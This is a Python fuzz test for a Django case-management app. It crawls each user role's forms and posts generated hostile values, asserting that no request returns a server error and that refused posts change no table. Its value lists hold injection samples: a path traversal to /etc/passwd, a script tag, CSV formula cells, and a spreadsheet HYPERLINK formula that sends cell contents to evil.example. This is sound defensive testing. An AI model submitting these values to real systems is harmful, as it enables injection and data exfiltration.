"""Issue 14 item 9: every form of the app, as each role, gets generated hostile values.

The forms are found by crawling the pages the role can reach (links from the start page and the
menus, a bounded number of pages); each example posts one generated value set to every form
found: for every typed field a post with that field hostile and the others plausible (so the value
gets past the other checks), plus one with every field hostile. Asserted: never a 500; a refused
post (the form comes back with errors, or 400/403/404) changes no table – not a row anywhere, not
an audit row. Two examples per role: about 20 s of CPU in all.
"""

from __future__ import annotations

import re
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

ROLES = [
    "system_admin",
    "association_admin",
    "intervention_manager",
    "participant_handler",
    "board_reader",
    "national_analyst",
]
MAX_PAGES = 60
SKIP_ACTIONS = ("/logout/", "/i18n/", "/admin/")
SKIP_LINKS = ("/logout/", "/i18n/", "/admin/", "format=", ".pdf", ".xlsx", ".csv", "/static/")
SLOW_PAGES = ("/rapporter/", "/indikatorer/resultat/", "/avvikelser/statistik/")
"""Chart pages with GET filters only (no POST form): not crawled, to keep the test short."""

HOSTILE_TEXT = st.sampled_from(
    [
        "",
        " ",
        "x" * 5000,
        "Namn\u202eevil",
        "a\x00b",
        "\x1b[31mröd",
        "../../etc/passwd",
        '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
        "<script>alert(1)</script>",
        "99999999999999999999",
        "-99999999999999999999",
        "1e309",
        "NaN",
        "-1",
        "0",
        "3,5",
        "9999-12-31",
        "0001-01-01",
        "2024-02-30",
        "2025-06-01",
        "19900101-0009",
        "åäö ÅÄÖ",
    ]
)
FILE_CONTENT = st.sampled_from(
    [
        b"",
        b"\xff\xfe\x00garbage",
        b"code,name\n=cmd,\xe2\x80\xae\n",
        b"PK\x03\x04not really a workbook",
        b"item,actor,monthly_sek\nFSS,kommun,99999999999999999999\n",
    ]
)


class _Forms(HTMLParser):
    """The POST forms of a page (action, fields with their options) and its links."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self.links: list[str] = []
        self._form: dict | None = None
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form" and (a.get("method") or "get").lower() == "post":
            self._form = {"action": a.get("action") or "", "fields": {}}
            self.forms.append(self._form)
        elif self._form is None:
            return
        elif tag in ("input", "textarea") and a.get("name"):
            kind = (a.get("type") or "text").lower() if tag == "input" else "textarea"
            if kind in ("submit", "button", "image", "reset") or a["name"] == "csrfmiddlewaretoken":
                return
            field = self._form["fields"].setdefault(a["name"], {"type": kind, "options": []})
            if kind in ("checkbox", "radio") and a.get("value") is not None:
                field["options"].append(a["value"])
            elif kind == "hidden":
                field["options"].append(a.get("value", ""))
        elif tag == "select" and a.get("name"):
            self._select = a["name"]
            self._form["fields"][a["name"]] = {"type": "select", "options": []}
        elif tag == "option" and self._select:
            self._form["fields"][self._select]["options"].append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def _shape(path: str) -> str:
    """``/forbund/12/budget/2025/`` → ``/forbund/N/budget/N/``: one page of each kind."""
    return re.sub(r"\d+", "N", path)


def _crawl(client, seeds=()) -> list[tuple[str, dict]]:
    """(action URL, fields) of every POST form on the pages reachable from the start page and
    ``seeds`` (one page and one form of each URL shape)."""
    seen, queue, forms = set(), ["/", *seeds], {}
    while queue and len(seen) < MAX_PAGES:
        url = queue.pop(0)
        if _shape(url) in seen:
            continue
        seen.add(_shape(url))
        response = client.get(url)
        assert response.status_code != 500, url
        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
            continue
        parser = _Forms()
        parser.feed(response.content.decode())
        for form in parser.forms:
            action = urljoin(url, form["action"]) if form["action"] else url
            if not any(s in action for s in SKIP_ACTIONS):
                forms.setdefault(_shape(urlsplit(action).path), (action, form["fields"]))
        for href in parser.links:
            target = urljoin(url, href)
            parts = urlsplit(target)
            if (
                parts.netloc
                or parts.query
                or any(s in target for s in SKIP_LINKS)
                or parts.path.startswith(SLOW_PAGES)
            ):
                continue
            if _shape(parts.path) not in seen:
                queue.append(parts.path)
    return list(forms.values())


def _counts() -> tuple:
    """Row counts of every Finsam table (one query)."""
    with connection.cursor() as cursor:
        tables = [
            t
            for t in connection.introspection.table_names(cursor)
            if not t.startswith(("django_session", "django_migrations"))
        ]
        quote = connection.ops.quote_name
        cursor.execute(
            "SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {quote(t)})" for t in tables)  # noqa: S608
        )
        return tuple(zip(tables, cursor.fetchone(), strict=True))


HOSTILE_NUMBER = st.sampled_from(
    ["99999999999999999999", "-99999999999999999999", "2147483648", "40000", "1e309", "NaN",
     "-1", "3,5", "", "abc"]
)  # fmt: skip
HOSTILE_DATE = st.sampled_from(["9999-12-31", "0001-01-01", "2024-02-30", "2101-01-01", "", "x"])


def _value(draw, field: dict, name: str = ""):
    options = [o for o in field["options"] if o is not None]
    if field["type"] == "number" or name in ("year", "count", "order", "position", "number"):
        return draw(HOSTILE_NUMBER | HOSTILE_TEXT)
    if field["type"] == "date" or "date" in name:
        return draw(HOSTILE_DATE | HOSTILE_TEXT)
    if field["type"] == "file":
        return SimpleUploadedFile("fil.csv", draw(FILE_CONTENT), content_type="text/csv")
    if field["type"] == "checkbox" and options:
        return draw(st.lists(st.sampled_from(options), max_size=3, unique=True))
    if options and draw(st.booleans()):
        return draw(st.sampled_from(options))
    return draw(HOSTILE_TEXT)


def _plausible(name: str, field: dict):
    """A value the field would accept in a normal post, so that the one hostile value of each
    post gets past the other fields' checks."""
    options = [o for o in field["options"] if o]
    kind = field["type"]
    if kind == "file":
        return SimpleUploadedFile("fil.csv", b"", content_type="text/csv")
    if kind in ("select", "radio", "hidden") and options:
        return options[0]
    if kind == "checkbox":
        return options[:1]
    if kind == "date" or "date" in name or name.endswith(("_from", "_to", "_start", "_end")):
        return "2025-06-01"
    if kind == "number" or name in ("year", "count", "order", "position", "number"):
        return "1"
    if kind == "email":
        return "test@example.se"
    if "personal_number" in name:
        return "19900101-0009"
    if name == "code" or name.endswith("_code"):
        return "FUZZ-1"
    return "Test"


FREE = ("text", "textarea", "number", "date", "email", "search", "tel", "url", "file")
"""Fields whose value is typed (a select, radio or checkbox only offers its options)."""


@st.composite
def _payloads(draw, fields: dict) -> list[dict]:
    """For each typed field one post: plausible values, that field's replaced by a generated
    hostile one – so the hostile value gets past the other fields' checks. Plus one post with
    every field hostile."""
    base = {name: _plausible(name, f) for name, f in fields.items()}
    posts = [
        {**base, name: _value(draw, f, name)}
        for name, f in sorted(fields.items())
        if f["type"] in FREE
    ]
    posts.append({name: _value(draw, f, name) for name, f in fields.items()})
    return posts


@pytest.fixture
def landscape(world, enrol):
    """Enough data that the detail pages (and their forms) exist."""
    from finsam.deviations import services as deviations
    from finsam.domain import deviations as dcore
    from finsam.finance.services import association_year_save
    from finsam.indicators import services as indicators

    episode = enrol()
    association = world["association"]
    association_year_save(actor=world["users"]["system_admin"], association=association, year=2025)
    indicators.starter_load(actor=world["users"]["system_admin"])
    members = {m.kind: m for m in association.members.all()}
    report = deviations.deviation_file(
        actor=world["users"]["participant_handler"],
        association=association,
        data=dcore.ReportInput(
            report_date=date(2026, 10, 1),
            organisations=(str(members["FK"].pk), str(members["AF"].pk)),
            category="NEKAD",
            description="FK väntade på regionen.",
            consequence="Väntan.",
            improvement="",
        ),
        today=date(2026, 11, 22),
    )
    from finsam.indicators.models import QuestionnaireVersion

    version = QuestionnaireVersion.objects.get(respondent_group="participant_exit", version=1)
    collection_round = indicators.round_open(
        actor=world["users"]["association_admin"],
        association=association,
        intervention=world["persons"],
        questionnaire=version,
        period_start=date(2025, 1, 1),
        period_end=date(2025, 12, 31),
        name="Hösten 2025",
    )
    a, i, e = association.pk, world["persons"].pk, episode.pk
    d, q, r = report.pk, version.pk, collection_round.pk
    world["seeds"] = [
        f"/insatser/{i}/volym/",
        f"/inskrivningar/{e}/uppfoljning/",
        "/avvikelser/ny/",
        f"/forbund/{a}/avvikelser/ny/",
        f"/avvikelser/{d}/",
        f"/avvikelser/{d}/atgard/",
        f"/avvikelser/{d}/avsluta/",
        f"/indikatorer/enkater/{q}/",
        f"/indikatorer/enkater/{q}/pastaende/ny/",
        f"/indikatorer/insamlingar/{r}/",
        f"/indikatorer/insamlingar/{r}/lankar/",
        f"/indikatorer/insamlingar/{r}/papper/",
        "/samhallsekonomi/utanforskap/",
        "/samhallsekonomi/aterbetalning/",
        "/modeller/sammanslagning/",
    ]
    return world


@pytest.mark.parametrize("role", ROLES)
def test_generated_posts_never_500_and_refusals_write_nothing(landscape, client, role):
    client.force_login(landscape["users"][role])
    client.raise_request_exception = False
    forms = _crawl(client, landscape["seeds"])
    assert forms or role in ("board_reader", "national_analyst")
    failures: list[str] = []

    @settings(
        max_examples=2,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
        derandomize=True,
    )
    @given(data=st.data())
    def post_everything(data):
        for action, fields in forms:
            for payload in data.draw(_payloads(fields), label=action):
                check(action, payload)

    def check(action, payload):
        before = _counts()
        with transaction.atomic():  # a failing request cannot break the test's transaction
            response = client.post(action, payload)
        if response.status_code >= 500:
            failures.append(f"{action}: {response.status_code} with {payload!r:.300}")
            return
        body = response.content.decode(errors="replace")
        refused = response.status_code == 200 and ("error-summary" in body or "errorlist" in body)
        if refused or response.status_code in (400, 403, 404):
            after = _counts()
            changed = [(t, a, b) for (t, a), (_, b) in zip(before, after, strict=True) if a != b]
            if changed:
                failures.append(f"{action}: refused ({response.status_code}) but {changed}")

    post_everything()
    assert failures == []
